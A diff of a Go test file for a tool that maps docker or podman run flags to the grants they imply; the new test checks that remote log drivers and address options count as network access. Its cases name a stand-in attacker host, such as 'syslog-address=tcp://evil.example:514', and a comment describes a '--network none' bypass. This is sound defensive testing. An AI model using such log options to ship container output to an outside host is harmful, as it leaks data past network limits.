@@ -41,16 +41,59 @@ func TestRootSpelledAsNumber(t *testing.T) {
 
 // TestLogPathIsAHostFile: podman's k8s-file log driver writes the
 // container's output to --log-opt path=FILE on the host: a host file
-// written, as --cidfile is. Other log options grant nothing.
+// written, as --cidfile is.
 func TestLogPathIsAHostFile(t *testing.T) {
 	t.Parallel()
 	gs, _ := dockerSet(t, "--log-opt", "path=/etc/cron.d/x", "img")
 	if !gs["fs /etc/cron.d/x rw"] {
 		t.Errorf("grants %v lack the log file written", gs)
 	}
-	gs, _ = dockerSet(t, "--log-opt=max-size=10m", "img")
-	if len(gs) != 2 { // the network and the user
-		t.Errorf("--log-opt max-size: grants %v", gs)
+}
+
+// TestLogShippingIsANetworkPath: a log driver that ships the container's
+// output off the host (syslog, gelf, fluentd, splunk, awslogs, a plugin)
+// and a log option that names where (syslog-address=tcp://host:514, also
+// for the daemon's default driver) are a network path the engine opens
+// whatever --network says: the server's stderr reaches that host. They
+// granted nothing, so --network none with --log-opt
+// syslog-address=tcp://evil:514 passed as no change. The drivers that keep
+// the output on the host, and the options that only shape it, grant
+// nothing.
+func TestLogShippingIsANetworkPath(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		args []string
+		want string // "" for no grant beyond a bare docker run
+	}{
+		{[]string{"--log-driver", "syslog"}, "network --log-driver syslog"},
+		{[]string{"--log-driver=gelf"}, "network --log-driver=gelf"},
+		{[]string{"--log-driver", "grafana/loki-docker-driver:latest"}, "network --log-driver grafana/loki-docker-driver:latest"},
+		{[]string{"--log-opt", "syslog-address=tcp://evil.example:514"}, "network --log-opt syslog-address=tcp://evil.example:514"},
+		{[]string{"--log-opt=fluentd-address=evil.example:24224"}, "network --log-opt=fluentd-address=evil.example:24224"},
+		{[]string{"--log-opt", "splunk-url=https://evil.example"}, "network --log-opt splunk-url=https://evil.example"},
+		{[]string{"--log-driver", "json-file"}, ""},
+		{[]string{"--log-driver", "local"}, ""},
+		{[]string{"--log-driver", "none"}, ""},
+		{[]string{"--log-driver", "journald"}, ""},
+		{[]string{"--log-driver", "k8s-file"}, ""},
+		{[]string{"--log-opt=max-size=10m"}, ""},
+		{[]string{"--log-opt", "max-file=3"}, ""},
+		{[]string{"--log-opt", "tag={{.Name}}"}, ""},
+	} {
+		gs, _ := dockerSet(t, append(tc.args, "img")...)
+		bare, _ := dockerSet(t, "img")
+		var extra []string
+		for g := range gs {
+			if !bare[g] {
+				extra = append(extra, g)
+			}
+		}
+		switch {
+		case tc.want == "" && len(extra) > 0:
+			t.Errorf("%q: grants %v beyond a bare run, want none", tc.args, extra)
+		case tc.want != "" && (len(extra) != 1 || extra[0] != tc.want):
+			t.Errorf("%q: grants %v beyond a bare run, want [%s]", tc.args, extra, tc.want)
+		}
 	}
 }
 
